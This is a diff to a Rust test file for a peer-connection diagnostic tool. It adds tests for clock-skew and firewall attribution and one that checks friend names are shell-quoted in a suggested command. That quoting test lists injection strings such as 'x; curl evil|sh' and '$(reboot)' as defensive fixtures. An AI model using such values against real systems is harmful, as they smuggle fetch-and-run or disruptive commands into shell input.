@@ -203,7 +203,10 @@ fn the_root_of_two_faults_is_the_one_nearest_to_the_beginning_of_the_way() {
 fn a_wrong_clock_is_the_one_that_others_disagree_with() {
     let day = 86_400;
     let mut facts = healthy();
-    let ahead = |facts: &mut Facts, seconds| facts.friend.as_mut().unwrap().clock_ahead = Some(seconds);
+    let ahead = |facts: &mut Facts, seconds: i64| {
+        facts.friend.as_mut().unwrap().clock_ahead = Some(seconds);
+        facts.there.as_mut().unwrap().side.time = NOW + seconds;
+    };
     ahead(&mut facts, day);
     check(&facts, Code::ClockWrong, Part::Internet);
     facts.here.clocks = vec![3];
@@ -228,8 +231,36 @@ fn each_answer_at_the_friends_address_has_its_cause() {
     check(TestResult::RefusedUs, Code::IdentityChanged, Part::Friend);
     check(TestResult::OtherVersion, Code::VersionTooOld, Part::Friend);
     check(TestResult::NotAllowed, Code::SettingsForbid, Part::ThisComputer);
-    check(TestResult::ForbiddenHere, Code::FirewallOut, Part::FirewallHere);
     check(TestResult::NameNotFound, Code::NamesFail, Part::Internet);
+}
+
+#[test]
+fn what_the_system_forbids_is_its_firewalls_doing_unless_its_rules_say_otherwise() {
+    let mut facts = apart(TestResult::ForbiddenHere);
+    facts.here.firewall = FirewallFacts::default();
+    check(&facts, Code::FirewallOut, Part::FirewallHere);
+    facts.here.firewall.outbound = Access::Open;
+    check(&facts, Code::Offline, Part::Friend);
+}
+
+#[test]
+fn no_name_of_a_friend_is_more_than_one_word_of_a_command() {
+    for (name, word) in [
+        ("anna-2.x", "anna-2.x"),
+        ("Anna Muster", "'Anna Muster'"),
+        ("x; curl evil|sh", "'x; curl evil|sh'"),
+        ("$(reboot)", "'$(reboot)'"),
+        ("it's", "FRIEND"),
+        ("a`b", "FRIEND"),
+        ("-rf", "'-rf'"),
+        ("", "FRIEND"),
+    ] {
+        assert_eq!(words::argument(name), word);
+        let mut facts = apart(TestResult::NameNotFound);
+        facts.friend.as_mut().unwrap().name = name.into();
+        let step = diagnose(&facts).verdict.next_step.unwrap();
+        assert!(step.contains(&format!("`kith friend address {word} IP:PORT`")), "{step}");
+    }
 }
 
 #[test]
